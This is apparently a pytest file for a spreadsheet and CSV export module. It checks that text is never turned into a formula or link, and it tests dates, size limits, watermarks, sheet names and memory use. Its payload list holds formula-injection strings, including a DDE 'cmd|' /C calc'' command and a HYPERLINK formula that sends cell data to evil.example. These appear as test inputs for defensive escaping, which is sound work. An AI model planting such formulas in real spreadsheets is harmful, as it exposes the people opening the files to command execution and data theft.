"""Spreadsheets read back cell by cell with two other programs' readers."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from ipfin.documents.safety import clean_text
from ipfin.documents.sheet import Column, Kind, Properties, SheetSpec, write_csv, write_sheet
from ipfin.kernel.errors import BadInput
from ipfin.kernel.text import _

FORMULA_PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+86 372 1234567",
    "-1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
]  # fmt: skip
AWKWARD_TEXTS = [
    "  leading",
    "trailing\u3000",
    "410500199001011234",
    "0012",
    "1E5",
    "2026-03-05",
    "TRUE",
    "http://example.cn/a",
    "mailto:a@b.cn",
    "<b>&amp;</b>",
    "]]>",
    "第一行\n第二行",
    "_x000D_",
    "a_x0041_b",
    "㼆䶮\U0002cb38\U000210c1\U00020164",
    "'=1",
    " ",
]  # fmt: skip


def write(*sheets: SheetSpec, **options: object) -> io.BytesIO:
    target = io.BytesIO()
    write_sheet(target, sheets, **options)  # type: ignore[arg-type]
    target.seek(0)
    return target


def texts(values: list[str]) -> SheetSpec:
    return SheetSpec("表", [Column("文本")], [[v] for v in values])


def calamine_column(stream: io.BytesIO) -> list[object]:
    rows = CalamineWorkbook.from_filelike(stream).get_sheet_by_index(0).to_python(skip_empty_area=False)
    return [row[0] for row in rows[1:]]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_no_text_becomes_a_formula_or_a_link(payload: str) -> None:
    stream = write(texts([payload]))

    cell = openpyxl.load_workbook(stream).active["A2"]

    assert cell.data_type in {"s", "inlineStr"}
    assert cell.hyperlink is None
    assert cell.number_format == "@"
    with zipfile.ZipFile(stream) as package:
        assert b"<f" not in package.read("xl/worksheets/sheet1.xml")
        assert not [n for n in package.namelist() if "sheet1.xml.rels" in n]


@pytest.mark.parametrize("payload", [p for p in FORMULA_PAYLOADS if p != "{=1+1}"])
def test_editing_a_text_that_looks_like_a_formula_keeps_it_a_text(payload: str) -> None:
    cell = openpyxl.load_workbook(write(texts([payload]))).active["A2"]
    assert cell.quotePrefix


def test_every_text_is_read_back_as_it_was_by_calamine() -> None:
    values = FORMULA_PAYLOADS + AWKWARD_TEXTS
    assert calamine_column(write(texts(values))) == values


def test_every_text_is_read_back_as_it_was_by_openpyxl() -> None:
    values = FORMULA_PAYLOADS + AWKWARD_TEXTS
    sheet = openpyxl.load_workbook(write(texts(values))).active
    found = [openpyxl.utils.escape.unescape(row[0].value) for row in sheet.iter_rows(min_row=2)]
    assert found == values


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.text(st.characters(), min_size=1, max_size=30).filter(clean_text), min_size=1, max_size=12)
)
def test_any_text_that_xml_can_hold_survives_the_round_trip(values: list[str]) -> None:
    assert calamine_column(write(texts(values))) == [clean_text(v) for v in values]


def test_characters_that_xml_forbids_are_left_out_and_the_file_still_opens() -> None:
    assert calamine_column(write(texts(["安\x0b阳\x00市\ud800"]))) == ["安阳市"]


def test_each_kind_is_read_back_as_its_kind() -> None:
    columns = [
        Column("名", Kind.TEXT),
        Column("数", Kind.INTEGER),
        Column("金额", Kind.DECIMAL, places=2),
        Column("日", Kind.DATE),
        Column("率", Kind.PERCENT, places=1),
    ]
    rows = [["甲", 12, Decimal("1234.50"), date(2026, 3, 5), Decimal("0.125")], [None] * 5]
    sheet = openpyxl.load_workbook(write(SheetSpec("表", columns, rows))).active

    first = list(sheet[2])

    assert [c.value for c in first] == ["甲", 12, 1234.5, datetime(2026, 3, 5), 0.125]  # noqa: DTZ001
    assert [c.number_format for c in first] == ["@", "0", "#,##0.00", "yyyy-mm-dd", "0.0%"]
    assert [c.value for c in sheet[3]] == [None] * 5


@pytest.mark.parametrize(
    ("day", "expected"),
    [
        (date(1900, 2, 28), "1900-02-28"),
        (date(1900, 3, 1), date(1900, 3, 1)),
        (date(2028, 2, 29), date(2028, 2, 29)),
    ],
)
def test_a_day_that_spreadsheets_count_wrongly_is_written_as_text(day: date, expected: object) -> None:
    stream = write(SheetSpec("表", [Column("日", Kind.DATE)], [[day]]))
    assert calamine_column(stream) == [expected]


def test_an_instant_is_refused_where_a_date_is_wanted() -> None:
    with pytest.raises(TypeError):
        write(SheetSpec("表", [Column("日", Kind.DATE)], [[datetime(2026, 1, 1, tzinfo=UTC)]]))


@pytest.mark.parametrize("value", [float("nan"), float("inf"), Decimal("NaN")])
def test_a_number_that_is_none_is_refused(value: object) -> None:
    with pytest.raises(ValueError, match="finite"):
        write(SheetSpec("表", [Column("数", Kind.DECIMAL)], [[value]]))


def test_an_integer_of_fifteen_digits_is_written_and_one_of_sixteen_is_refused() -> None:
    column = Column("数", Kind.INTEGER)
    assert calamine_column(write(SheetSpec("表", [column], [[10**15 - 1]]))) == [10**15 - 1]
    with pytest.raises(BadInput, match="15位"):
        write(SheetSpec("表", [column], [[10**15]]))


@pytest.mark.parametrize("text", ["字" * 32_767, "\U0002cb38" * 16_383])
def test_the_longest_text_that_a_cell_holds_is_written_whole(text: str) -> None:
    assert calamine_column(write(texts([text]))) == [text]


@pytest.mark.parametrize("text", ["字" * 32_768, "\U0002cb38" * 16_384])
def test_a_text_too_long_for_a_cell_is_refused_by_sheet_row_and_column(text: str) -> None:
    with pytest.raises(BadInput, match="工作表“表”第3行“文本”列的文字有32768个字符"):
        write(texts(["短", text]))


def test_a_refused_file_leaves_nothing_behind(tmp_path: Path) -> None:
    target = tmp_path / "名录.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(BadInput):
        write_sheet(target, [texts(["字" * 40_000])])
    assert [p.name for p in tmp_path.iterdir()] == ["名录.xlsx"]
    assert target.read_bytes() == b"old"


def test_heading_and_intro_stand_above_the_frozen_filtered_repeated_header() -> None:
    spec = SheetSpec(
        "名录",
        [Column("企业名称", width=30), Column("分数", Kind.DECIMAL)],
        [["甲", 1], ["乙", 2]],
        heading="专利企业名录",
        intro=["第1期", "截至2026年3月5日"],
        watermark="某某银行 · 张三 & 李四 · 20261122 · AY-0001",
    )
    sheet = openpyxl.load_workbook(write(spec)).active

    assert [sheet["A1"].value, sheet["A3"].value, sheet["A4"].value] == [
        "专利企业名录",
        "截至2026年3月5日",
        "企业名称",
    ]
    assert sheet.freeze_panes == "A5"
    assert sheet.auto_filter.ref == "A4:B6"
    assert sheet.print_title_rows == "$4:$4"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.oddHeader.right.text.strip() == "某某银行 · 张三 && 李四 · 20261122 · AY-0001"
    assert "&P" in sheet.oddFooter.center.text.replace("&[Page]", "&P")
    assert sheet.column_dimensions["A"].width == pytest.approx(30.7)
    assert sheet["A4"].font.bold


@pytest.mark.parametrize("length", range(240, 262))
def test_a_long_watermark_never_ends_in_half_a_code(length: int) -> None:
    spec = SheetSpec("表", [Column("甲")], [], watermark="&" * length)
    with zipfile.ZipFile(write(spec)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    header = xml.split("<oddHeader>")[1].split("</oddHeader>")[0].replace("&amp;", "&")
    assert len(header) <= 255
    assert header.removeprefix("&R&9 ").count("&") % 2 == 0


def test_the_watermark_id_survives_opening_and_saving_in_another_program() -> None:
    mark = Properties(
        title="名录", creator="安阳市", watermark_id="WM-<7>", created_at=datetime(2026, 3, 5, tzinfo=UTC)
    )
    copy = io.BytesIO()
    openpyxl.load_workbook(write(texts(["甲"]), properties=mark)).save(copy)

    book = openpyxl.load_workbook(copy)

    assert book.properties.keywords == "WM-<7>"
    assert book.custom_doc_props["IpfinWatermark"].value == "WM-<7>"
    assert (book.properties.title, book.properties.creator) == ("名录", "安阳市")


def test_sheet_names_are_made_lawful_and_distinct() -> None:
    titles = ["a/b", "a-b", "A-B", "", "x" * 40, "x" * 31]
    stream = write(*[SheetSpec(t, [Column("甲")], []) for t in titles])
    names = CalamineWorkbook.from_filelike(stream).sheet_names
    assert names == ["a-b", "a-b(2)", "A-B(3)", "Sheet", "x" * 31, "x" * 28 + "(2)"]
    assert openpyxl.load_workbook(stream).sheetnames == names


def test_the_number_of_rows_written_is_returned_for_each_sheet() -> None:
    counts = write_sheet(io.BytesIO(), [texts(["甲", "乙"]), texts([])])
    assert counts == (2, 0)


def test_a_row_with_a_cell_too_few_is_refused() -> None:
    with pytest.raises(ValueError, match="zip"):
        write(SheetSpec("表", [Column("甲"), Column("乙")], [["只有一个"]]))


def test_a_hundred_thousand_rows_take_no_more_memory_than_a_thousand(tmp_path: Path) -> None:
    def rows(count: int) -> Iterator[list[object]]:
        for number in range(count):
            yield [f"安阳市第{number}号企业", number]

    columns = [Column("名"), Column("数", Kind.INTEGER)]
    peaks = []
    for count in (1_000, 30_000):
        tracemalloc.start()
        write_sheet(tmp_path / "x.xlsx", [SheetSpec("表", columns, rows(count))])
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.5 + 200_000


def test_csv_opens_in_chinese_programs_and_never_computes() -> None:
    columns = [Column("名"), Column("数", Kind.INTEGER), Column("日", Kind.DATE), Column("率", Kind.PERCENT)]
    rows = [[p, -5, date(2026, 3, 5), Decimal("0.1250")] for p in FORMULA_PAYLOADS[:12]] + [[None] * 4]
    target = io.BytesIO()

    count = write_csv(target, columns, rows)

    lines = target.getvalue()
    assert count == 13
    assert lines.startswith(b"\xef\xbb\xbf" + "名,数,日,率\r\n".encode())
    read = list(csv.reader(io.StringIO(lines.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in read[1:13]] == ["'" + p for p in FORMULA_PAYLOADS[:12]]
    assert read[1][1:] == ["-5", "2026-03-05", "0.1250"]
    assert read[13] == ["", "", "", ""]


def test_sentences_in_cells_are_written_in_the_locale_of_the_reader() -> None:
    stream = write(SheetSpec("表", [Column(_("名称"))], [[_("共%(n)s件", n=3)]]))
    assert calamine_column(stream) == ["共3件"]
